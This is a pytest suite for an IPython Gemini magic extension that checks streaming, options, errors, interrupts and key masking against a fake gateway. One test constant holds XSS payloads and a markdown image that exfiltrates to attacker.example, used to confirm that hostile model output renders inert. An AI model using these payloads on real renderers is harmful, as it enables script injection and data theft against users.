"""%%gemini and %gemini in a real kernel against FakeGateway, asserting on iopub messages.

One kernel serves the whole module (see conftest.py); every test clears the gateway's records
first. Nothing here sleeps: interrupts wait for the first live update of the answer.
"""

from __future__ import annotations

import base64
import json
import re
import time
from typing import Any

import pytest

from conftest import KERNEL_KEY, Cell, KernelSession
from html_check import assert_inert, inert_problems
from ipygemini.testing import FakeGateway, answer_for, reasoning_for
from kernel_driver import (
    answer_text,
    chat_bodies,
    displays,
    footer,
    last_body,
    ok,
    one_line_error,
    the_output,
)

pytestmark = pytest.mark.usefixtures("fresh")  # every test starts with a cleared gateway


# --- streaming and the final outputs -------------------------------------------------------------

PROMPT = "Explain streaming [fake:delay=0.005] [fake:words=150]"


def test_answer_streams_live_and_ends_as_the_full_answer(
    kernel: KernelSession, magic_gateway: FakeGateway
) -> None:
    cell = ok(kernel.run(f"%%gemini\n{PROMPT}"))
    answer = answer_for(last_body(magic_gateway))
    live = [m for m in cell.of_type("update_display_data") if m["content"]["data"]]
    assert len(live) >= 3, "the answer did not stream"
    assert answer_text(cell) == answer  # one output: the answer and its footer
    assert the_output(cell)["text/html"].startswith("<")
    assert not cell.of_type("execute_result"), "the cell must return None"
    assert "gemini-2.5-flash" in footer(cell) and "tokens" in footer(cell)


def test_no_stream_shows_the_same_final_outputs(
    kernel: KernelSession, magic_gateway: FakeGateway
) -> None:
    streamed = ok(kernel.run(f"%%gemini\n{PROMPT}"))
    still = ok(kernel.run(f"%%gemini --no-stream\n{PROMPT}"))
    assert [b.get("stream") for b in chat_bodies(magic_gateway)] == [True, None]
    assert not still.of_type("update_display_data", "clear_output")
    assert len(still.of_type("display_data")) == 1  # shown once, directly
    assert answer_text(still) == answer_text(streamed)


def test_updates_are_throttled(kernel: KernelSession) -> None:
    cell = ok(kernel.run("%%gemini\nslow one [fake:delay=0.002] [fake:words=300]"))
    updates = cell.of_type("update_display_data")
    stamps = [m["header"]["date"] for m in cell.of_type("display_data", "update_display_data")]
    seconds = (stamps[-1] - stamps[0]).total_seconds()
    blocks = len(cell.of_type("display_data")) - 1  # a live handle per block, then the output
    # at most ~20 live renders a second, plus one finished content per block
    assert len(updates) <= 20 * seconds + 2 + blocks, (len(updates), seconds, blocks)


def test_thinking_streams_then_folds(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
    cell = ok(kernel.run("%%gemini --thinking\nThink first [fake:delay=0.01]"))
    body = last_body(magic_gateway)
    assert body["extra_body"]["google"]["thinking_config"]["include_thoughts"] is True
    reasoning = reasoning_for(body)
    assert reasoning
    live = [m["content"]["data"].get("text/html", "") for m in cell.of_type("update_display_data")]
    assert any(html.startswith("<details open") for html in live)
    output = the_output(cell)
    assert output["text/html"].startswith("<details style")  # folded
    assert answer_text(cell) == f"[Thinking ({len(reasoning.split()):,} words)]\n{reasoning}" + (
        "\n\n" + answer_for(body)
    )


def test_thinking_budget_levels(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
    ok(kernel.run("%%gemini --thinking low\nhi"))
    config = last_body(magic_gateway)["extra_body"]["google"]["thinking_config"]
    assert config["thinking_budget"] == 1024
    ok(kernel.run("%%gemini --thinking 300\nhi"))
    assert last_body(magic_gateway)["extra_body"]["google"]["thinking_config"] == {
        "thinking_budget": 300,
        "include_thoughts": True,
    }
    cell = kernel.run("%%gemini --thinking lots\nhi")
    assert cell.status == "error" and "--thinking" in cell.stderr


def test_generated_image_is_shown_from_its_bytes(
    kernel: KernelSession, magic_gateway: FakeGateway
) -> None:
    cell = ok(
        kernel.run(
            "%%gemini -m gemini-2.5-flash-image --aspect-ratio 16:9 --image-size 2k\na red fox"
        )
    )
    body = last_body(magic_gateway)
    assert body["extra_body"]["google"]["image_config"] == {
        "aspect_ratio": "16:9",
        "image_size": "2K",
    }
    html = the_output(cell)["text/html"]
    sources = re.findall(r'<img src="data:image/png;base64,([A-Za-z0-9+/=]+)"', html)
    assert len(sources) == 1 and html.count("<img") == 1
    png = base64.b64decode(sources[0])
    assert png.startswith(b"\x89PNG")
    assert int.from_bytes(png[16:20], "big") == 85  # 16:9 with a 48 px short side
    assert_inert(html)
    check = ok(kernel.run("print(len(_gemini.images), _gemini.images[0].mime_type)"))
    assert check.stdout == "1 image/png\n"


def test_bad_aspect_ratio_is_a_usage_error(kernel: KernelSession) -> None:
    cell = kernel.run("%%gemini -m gemini-2.5-flash-image --aspect-ratio wide\nx")
    assert cell.status == "error" and "--aspect-ratio" in cell.stderr


# --- untrusted answers ----------------------------------------------------------------------------

HOSTILE = (
    "<img src=x onerror=alert(1)> <script>alert(2)</script> [click](javascript:alert(3)) "
    "![leak](https://attacker.example/?q=secret) <svg onload=alert(4)> <iframe srcdoc=x>"
)


@pytest.mark.parametrize("stream", [True, False])
def test_hostile_answer_reaches_no_output_in_executable_form(
    kernel: KernelSession, stream: bool
) -> None:
    # The fake echoes the prompt into its answer, so the payload comes back as model text.
    flag = "" if stream else " --no-stream"
    cell = ok(kernel.run(f"%%gemini{flag}\n{HOSTILE} [fake:delay=0.002]"))
    assert "alert(1)" in json.dumps(displays(cell.final))  # the payload did come back
    every = [m["content"]["data"] for m in cell.of_type("display_data", "update_display_data")]
    assert len(every) > (3 if stream else 0)
    for data in every:
        assert_inert(data.get("text/html", ""))
    check = ok(kernel.run("print(_gemini.images[0].url if _gemini.images else None)"))
    assert check.stdout.strip() in ("None", "https://attacker.example/?q=secret")


def test_allowed_tags_only(kernel: KernelSession) -> None:
    cell = ok(kernel.run("%%gemini\nlist and code please [fake:delay=0.002]"))
    for data in displays(cell.final):
        assert inert_problems(data.get("text/html", "")) == []


# --- prompt interpolation ----------------------------------------------------------------------------


def last_user_text(gw: FakeGateway) -> str:
    content = last_body(gw)["messages"][-1]["content"]
    return content if isinstance(content, str) else content[0]["text"]


def test_interpolation_once_with_literal_braces(
    kernel: KernelSession, magic_gateway: FakeGateway
) -> None:
    first = ok(kernel.run("x = 42\ny = '{x}'\n40 + 2"))
    n = first.reply["execution_count"]
    ok(
        kernel.run(
            "%%gemini\nx={x} y={y} {{x}} {{{x}}} In={In[" + str(n) + "]} Out={Out[" + str(n) + "]} "
            'code: def f(): {return 1} json: {"a": 1}'
        )
    )
    assert last_user_text(magic_gateway) == (
        "x=42 y={x} {x} {42} In=x = 42\ny = '{x}'\n40 + 2 Out=42 "
        'code: def f(): {return 1} json: {"a": 1}'
    )


def test_attribute_access(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
    ok(kernel.run("class P: name = 'Ada'\np = P()"))
    ok(kernel.run("%%gemini\nHello {p.name}"))
    assert last_user_text(magic_gateway) == "Hello Ada"


@pytest.mark.parametrize(
    ("prompt", "message"),
    [
        ("{dff}", "no variable 'dff' in the notebook"),
        ("{Out[9999]}", "cell 9999 has not run or returned nothing"),
        ("{In[9999]}", "there is no cell 9999 yet"),
        ("{p.nope}", "has no attribute 'nope'"),
    ],
)
def test_unknown_names_are_one_clear_line(
    kernel: KernelSession, magic_gateway: FakeGateway, prompt: str, message: str
) -> None:
    cell = kernel.run(f"%%gemini\nAbout {prompt}")
    error = one_line_error(cell)
    assert message in error["evalue"]
    assert not chat_bodies(magic_gateway)


# --- options ----------------------------------------------------------------------------------------


def test_sampling_options_reach_the_request(
    kernel: KernelSession, magic_gateway: FakeGateway
) -> None:
    ok(
        kernel.run(
            "%%gemini -m gemini-2.5-pro -t 0.3 --top-p 0.9 --max-tokens 5 --stop '###' "
            "-s 'Be terse.'\nhello there"
        )
    )
    body = last_body(magic_gateway)
    assert body["model"] == "gemini-2.5-pro"
    assert body["temperature"] == 0.3 and body["top_p"] == 0.9
    assert body["max_tokens"] == 5 and body["stop"] == "###"
    assert body["messages"][0] == {"role": "system", "content": "Be terse."}
    check = ok(kernel.run("print(_gemini.finish_reason, len(_gemini.text.split()))"))
    assert check.stdout == "length 5\n"


def test_several_stops(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
    cell = ok(kernel.run("%%gemini --stop stream --stop 'You asked'\nhi"))
    body = last_body(magic_gateway)
    assert body["stop"] == ["stream", "You asked"]
    shown = answer_text(cell)
    assert shown == answer_for(body).strip()
    assert "You asked" not in shown


def test_n_answers_are_all_shown(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
    cell = ok(kernel.run("%%gemini -n 2\nTwo please"))
    assert last_body(magic_gateway)["n"] == 2
    plain = answer_text(cell).split("\n\n")
    assert "— Answer 2 of 2 —" in plain
    assert any(p.endswith("(choice 2)") for p in plain)
    assert "2 answers" in footer(cell)
    check = ok(kernel.run("print(len(_gemini.choices))"))
    assert check.stdout == "2\n"


def test_output_name_and_gemini_variable(kernel: KernelSession) -> None:
    cell = ok(kernel.run("%%gemini -o answer\nKeep me"))
    assert not cell.of_type("execute_result")
    check = ok(kernel.run("print(answer is _gemini, type(answer).__name__, answer.status)"))
    assert check.stdout == "True Reply complete\n"


def test_bad_output_name(kernel: KernelSession) -> None:
    cell = kernel.run("%%gemini -o 2bad\nx")
    assert cell.status == "error" and "-o/--output" in cell.stderr


def test_chat_sends_the_history_and_cells_are_independent_without_it(
    kernel: KernelSession, magic_gateway: FakeGateway
) -> None:
    ok(kernel.run("%gemini reset"))
    ok(kernel.run("%%gemini -c trip -s 'You plan trips.'\nFirst question"))
    first_answer = answer_for(last_body(magic_gateway))
    ok(kernel.run("%%gemini -c trip\nSecond question"))
    messages = last_body(magic_gateway)["messages"]
    assert messages == [
        {"role": "system", "content": "You plan trips."},
        {"role": "user", "content": "First question"},
        {"role": "assistant", "content": first_answer},
        {"role": "user", "content": "Second question"},
    ]
    ok(kernel.run("%%gemini\nStandalone"))
    assert last_body(magic_gateway)["messages"] == [{"role": "user", "content": "Standalone"}]
    history = ok(kernel.run("%gemini history trip"))
    assert "Conversation 'trip': 2 turn(s)" in history.stdout
    assert "user: Second question" in history.stdout
    ok(kernel.run("%gemini reset trip"))
    ok(kernel.run("%%gemini -c trip\nAfter reset"))
    assert [m["role"] for m in last_body(magic_gateway)["messages"]] == ["system", "user"]
    missing = kernel.run("%gemini history nosuch")
    assert missing.status == "error" and "no conversation named 'nosuch'" in missing.stderr


def test_json_mode_returns_the_parsed_value(
    kernel: KernelSession, magic_gateway: FakeGateway
) -> None:
    cell = ok(kernel.run("%%gemini --json\nGive JSON"))
    assert last_body(magic_gateway)["response_format"] == {"type": "json_object"}
    results = cell.of_type("execute_result")
    assert len(results) == 1
    assert results[0]["content"]["data"]["text/plain"] == (
        "{'answer': 'offline', 'prompt': 'Give JSON', 'words': 2}"
    )
    # shown once, as the result: the one output holds only the footer
    assert answer_text(cell) == ""


def test_format_code_puts_the_code_in_a_new_cell(kernel: KernelSession) -> None:
    cell = ok(kernel.run("%%gemini -f code\nwrite code for fibonacci"))
    payloads = [p for p in cell.payloads if p.get("source") == "set_next_input"]
    assert len(payloads) == 1
    assert payloads[0]["text"].startswith("def fibonacci(n: int) -> list[int]:")
    assert payloads[0]["text"].rstrip().endswith("print(fibonacci(10))")
    assert payloads[0]["replace"] is False


def test_format_text_and_json(kernel: KernelSession) -> None:
    text = ok(kernel.run("%%gemini -f text\nplain please"))
    assert the_output(text)["text/html"].startswith("<pre>")  # escaped text, not Markdown
    live = [m["content"]["data"] for m in text.of_type("update_display_data")]
    assert all(d.get("text/html", "<pre>").startswith("<pre>") for d in live)
    shown = ok(kernel.run("%%gemini -f json --no-stream\nplain please"))
    assert the_output(shown)["text/html"].startswith('<pre><code class="language-json">')


def test_attach_a_variable(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
    ok(
        kernel.run(
            "import base64\npng = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
            "AAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==')"
        )
    )
    ok(kernel.run("%%gemini -a png\nWhat is in this image?"))
    content = last_body(magic_gateway)["messages"][-1]["content"]
    assert content[0] == {"type": "text", "text": "What is in this image?"}
    assert content[1]["type"] == "image_url"
    assert content[1]["image_url"]["url"].startswith("data:image/png;base64,")
    missing = kernel.run("%%gemini -a nope\nx")
    assert "no variable 'nope'" in one_line_error(missing)["evalue"]


def test_help_sends_nothing(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
    cell = ok(kernel.run("%%gemini --help\nignored"))
    for option in ("--temperature", "--top-p", "--max-tokens", "--stop", "--json", "--thinking"):
        assert option in cell.stdout
    for option in ("--no-stream", "--output", "--chat", "--attach", "--format", "--aspect-ratio"):
        assert option in cell.stdout
    assert "--image-size" in cell.stdout
    assert not chat_bodies(magic_gateway)


@pytest.mark.parametrize(
    ("line", "named"),
    [
        ("--temperature abc", "-t/--temperature"),
        ("-t 3", "-t/--temperature"),
        ("--top-p 2", "--top-p"),
        ("--max-tokens 0", "--max-tokens"),
        ("-n 0", "-n"),
        ("--stop a --stop b --stop c --stop d --stop e", "--stop"),
        ("--bogus", "--bogus"),
        ("-f html", "-f/--format"),
        ("--model ''", "-m/--model"),
        ("'unclosed", "cannot read the options"),
    ],
)
def test_bad_options_are_usage_errors_naming_the_option(
    kernel: KernelSession, magic_gateway: FakeGateway, line: str, named: str
) -> None:
    cell = kernel.run(f"%%gemini {line}\nhello")
    assert cell.status == "error"
    assert cell.stderr.startswith("UsageError:") and named in cell.stderr, cell.stderr
    assert cell.stderr.count("\n") == 1
    assert not chat_bodies(magic_gateway)


def test_empty_prompt(kernel: KernelSession) -> None:
    cell = kernel.run("%%gemini\n   \n")
    assert cell.status == "error" and "the cell is empty" in cell.stderr


# --- errors ---------------------------------------------------------------------------------------------


def test_api_error_fails_the_cell_with_one_line(kernel: KernelSession) -> None:
    cell = kernel.run("%%gemini\nhi [fake:status code=400]")
    error = one_line_error(cell)
    assert error["ename"] == "BadRequestError"
    assert "HTTP 400" in error["evalue"]
    assert not displays(cell.final)


def test_server_error_after_retries(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
    ok(kernel.run("%gemini config max_retries=0"))
    try:
        cell = kernel.run("%%gemini\nhi [fake:status code=500]")
    finally:
        ok(kernel.run("%gemini config max_retries=2"))
    assert one_line_error(cell)["ename"] == "ServerError"
    assert len(chat_bodies(magic_gateway)) == 1


@pytest.mark.parametrize("fault", ["disconnect after=3", "error_event after=4"])
def test_mid_stream_failure_keeps_what_arrived(kernel: KernelSession, fault: str) -> None:
    cell = kernel.run(f"%%gemini\nhi [fake:{fault}] [fake:words=100]")
    error = one_line_error(cell)
    assert error["ename"] == "StreamError"
    assert "failed" in footer(cell)
    shown = answer_text(cell)
    check = ok(kernel.run("print(_gemini.status); print(_gemini.text)"))
    status, _, text = check.stdout.partition("\n")
    assert status == "failed"
    assert shown and text.startswith(shown[:20])
    assert cell.final[-1]["output_type"] == "error"  # the error is last


def test_truncated_stream_is_marked(kernel: KernelSession) -> None:
    cell = ok(kernel.run("%%gemini\nhi [fake:no_finish]"))
    assert footer(cell).endswith("truncated")


def test_parameter_errors_from_the_client_are_one_line(kernel: KernelSession) -> None:
    cell = kernel.run("%%gemini --max-tokens -3\nhi")
    assert cell.status == "error" and "--max-tokens" in cell.stderr
    assert cell.stderr.count("\n") == 1


def test_missing_key_mentions_offline(kernel: KernelSession) -> None:
    setup = "import os\n_saved = dict(os.environ)\nos.environ.pop('GEMINI_API_KEY')\n"
    setup += "os.environ['GEMINI_BASE_URL'] = 'https://gateway.example/v1'"
    ok(kernel.run(setup))
    try:
        cell = kernel.run("%%gemini\nhi")
    finally:
        ok(kernel.run("os.environ.clear(); os.environ.update(_saved)"))
    error = one_line_error(cell)
    assert error["ename"] == "MissingKeyError"
    assert "%gemini offline" in error["evalue"] and "%gemini login" in error["evalue"]


# --- interrupts -----------------------------------------------------------------------------------------


def test_interrupt_keeps_the_partial_answer_and_the_next_cell_works(
    kernel: KernelSession, magic_gateway: FakeGateway
) -> None:
    interrupted_at: list[float] = []

    def interrupt_once_streaming(msg: dict[str, Any], cell: Cell) -> None:
        if interrupted_at or msg["msg_type"] != "update_display_data":
            return
        if msg["content"]["data"]:
            interrupted_at.append(1.0)
            kernel.interrupt()

    cell = kernel.run(
        "%%gemini -o partial\nA long one [fake:slow] [fake:words=2000]",
        on_message=interrupt_once_streaming,
    )
    assert interrupted_at, "the answer never streamed"
    assert cell.status == "error"
    assert cell.error is not None and cell.error["ename"] == "AnswerInterrupted"
    assert len(cell.error["traceback"]) == 1 and "KeyboardInterrupt" in cell.error["traceback"][0]
    assert "kept in _gemini" in cell.error["evalue"]
    assert "interrupted" in footer(cell)
    shown = answer_text(cell)
    assert shown, "the partial answer is not shown"
    check = ok(kernel.run("print(_gemini.text.startswith(" + repr(shown[:40]) + "))"))
    assert check.stdout == "True\n"
    assert magic_gateway.wait_for_disconnect(5), "the connection was not closed"
    assert cell.final[-1]["output_type"] == "error"
    check = ok(kernel.run("print(_gemini.status, partial is _gemini, len(_gemini.text) > 0)"))
    assert check.stdout == "interrupted True True\n"
    after = ok(kernel.run("%%gemini\nStill working?"))
    assert answer_text(after)


def test_interrupt_stops_the_cells_queued_behind_it(kernel: KernelSession) -> None:
    """ipykernel aborts queued cells after an error reply; the one-line interrupt is one."""
    ok(kernel.run("queued_ran = False"))
    kc = kernel.kc
    first = kc.execute("%%gemini\nA long one [fake:slow] [fake:words=2000]", stop_on_error=True)
    second = kc.execute("queued_ran = True", stop_on_error=True)
    interrupted = False
    replies: dict[str, dict[str, Any]] = {}
    errors: list[dict[str, Any]] = []
    deadline = time.monotonic() + 60
    idle = False  # the first cell's iopub messages are all in (errors may trail its reply)
    while (len(replies) < 2 or not idle) and time.monotonic() < deadline:
        try:
            msg = kc.get_iopub_msg(timeout=0.05)
        except Exception:  # queue.Empty: look for replies instead
            msg = None
        if msg is not None and msg["parent_header"].get("msg_id") == first:
            kind = msg["msg_type"]
            if kind == "update_display_data" and not interrupted:
                if msg["content"]["data"]:
                    interrupted = True
                    kernel.km.interrupt_kernel()
            elif kind == "error":
                errors.append(msg["content"])
            elif kind == "status" and msg["content"]["execution_state"] == "idle":
                idle = True
        try:
            reply = kc.get_shell_msg(timeout=0.01)
        except Exception:  # queue.Empty
            continue
        replies[reply["parent_header"]["msg_id"]] = reply["content"]
    assert interrupted, "the answer never streamed"
    assert replies[first]["status"] == "error"
    assert replies[second]["status"] == "aborted"
    assert [len(e["traceback"]) for e in errors] == [1]
    check = ok(kernel.run("print(queued_ran)"))
    assert check.stdout == "False\n"


# --- line commands ----------------------------------------------------------------------------------------


def test_models_table(kernel: KernelSession) -> None:
    cell = ok(kernel.run("%gemini models"))
    (table,) = displays(cell.final)
    assert "gemini-2.5-pro" in table["text/plain"]
    assert "<table>" in table["text/html"] and "<code>gemini-2.5-flash</code>" in table["text/html"]


def test_config_shows_masked_key_and_sets_values(
    kernel: KernelSession, magic_gateway: FakeGateway
) -> None:
    cell = ok(kernel.run("%gemini config"))
    assert "api_key            = …leak  (GEMINI_API_KEY)" in cell.stdout
    assert magic_gateway.base_url in cell.stdout
    ok(kernel.run("%gemini config model=gemini-2.5-pro"))
    ok(kernel.run("%%gemini\nwhich model"))
    assert last_body(magic_gateway)["model"] == "gemini-2.5-pro"
    ok(kernel.run('%config Gemini.model = "gemini-2.5-flash-lite"'))
    ok(kernel.run("%%gemini\nwhich model"))
    assert last_body(magic_gateway)["model"] == "gemini-2.5-flash-lite"
    ok(kernel.run("%gemini config model=none"))
    ok(kernel.run("%%gemini\nwhich model"))
    assert last_body(magic_gateway)["model"] == "gemini-2.5-flash"
    for bad, words in [
        ("colour=red", "unknown setting 'colour'"),
        ("timeout=-1", "timeout must be a number of seconds > 0"),
        ("format=html", "format"),
        ("api_key=abc", "not a setting"),
        ("model", "write KEY=VALUE"),
    ]:
        err = kernel.run(f"%gemini config {bad}")
        assert err.status == "error" and words in err.stderr, (bad, err.stderr)


def test_stream_setting_off(kernel: KernelSession) -> None:
    ok(kernel.run("%config Gemini.stream = False"))
    try:
        cell = ok(kernel.run("%%gemini\nno live view [fake:delay=0.01]"))
    finally:
        ok(kernel.run("%config Gemini.stream = True"))
    assert not cell.of_type("update_display_data")


def test_login_keeps_the_key_in_memory(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
    prompts: list[dict[str, Any]] = []

    def answer(request: dict[str, Any]) -> str:
        prompts.append(request["content"])
        return KERNEL_KEY

    ok(kernel.run("import os\n_saved_key = os.environ.pop('GEMINI_API_KEY')"))
    try:
        cell = ok(kernel.run("%gemini login", stdin=answer))
        assert prompts and prompts[0]["password"] is True
        assert "…leak" in cell.stdout and "memory" in cell.stdout
        config = ok(kernel.run("%gemini config"))
        assert "(%gemini login (memory))" in config.stdout
        ok(kernel.run("%%gemini\nlogged in"))
        assert magic_gateway.requests[-1].authorized
    finally:
        ok(kernel.run("os.environ['GEMINI_API_KEY'] = _saved_key"))
    refused = kernel.run("%gemini login sk-typed-into-the-cell")
    assert refused.status == "error" and "takes no arguments" in refused.stderr


def test_help_and_unknown_command(kernel: KernelSession) -> None:
    cell = ok(kernel.run("%gemini help"))
    for command in ("models", "config", "login", "reset", "history", "offline"):
        assert f"%gemini {command}" in cell.stdout
    bad = kernel.run("%gemini what is the answer")
    assert bad.status == "error" and "%%gemini (two percent signs)" in bad.stderr


def test_offline_mode(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
    cell = ok(kernel.run("%gemini offline"))
    assert "OFFLINE" in cell.stdout
    try:
        answer = ok(kernel.run("%%gemini\nOffline?"))
        assert footer(answer).endswith("offline")
        assert not chat_bodies(magic_gateway)  # the built-in gateway answered
        config = ok(kernel.run("%gemini config"))
        assert "(offline gateway)" in config.stdout
    finally:
        ok(kernel.run("%gemini offline off"))
    ok(kernel.run("%%gemini\nOnline again"))
    assert chat_bodies(magic_gateway)


def test_unload_and_reload(kernel: KernelSession) -> None:
    ok(kernel.run("%unload_ext ipygemini"))
    gone = kernel.run("%%gemini\nhi")
    assert gone.status == "error"
    ok(kernel.run("%load_ext ipygemini"))
    ok(kernel.run("%%gemini\nhi again"))


# --- the key never shows ------------------------------------------------------------------------------------


def test_key_appears_in_no_message(kernel: KernelSession) -> None:
    ok(kernel.run("print(repr(_gemini)); print(get_ipython().find_magic('gemini'))"))
    ok(kernel.run("%config Gemini"))
    assert len(kernel.all_messages) > 100  # every test above ran in this kernel
    dump = json.dumps(kernel.all_messages, default=str)
    assert KERNEL_KEY not in dump
    assert KERNEL_KEY[:-4] not in dump


def test_panel_command_shares_the_conversation(
    kernel: KernelSession, magic_gateway: FakeGateway
) -> None:
    ok(kernel.run("p = get_ipython().run_line_magic('gemini', 'panel shared')\nprint(repr(p))"))
    ok(kernel.run("%%gemini -c shared\nFirst question"))
    cell = ok(
        kernel.run("r = await p.send('Second question')\nprint(p.conversation.turns, r.status)")
    )
    assert cell.stdout.strip().endswith("2 complete")
    body = magic_gateway.requests[-1].body
    assert [m["role"] for m in body["messages"]] == ["user", "assistant", "user"]
    bad = kernel.run("%gemini panel a b")
    assert "at most one conversation name" in json.dumps(bad.messages, default=str)


def test_line_help_lists_the_cell_options(kernel: KernelSession) -> None:
    cell = ok(kernel.run("%gemini --help"))
    text = json.dumps([m["content"] for m in cell.messages], default=str)
    assert "--thinking" in text and "%gemini models" in text
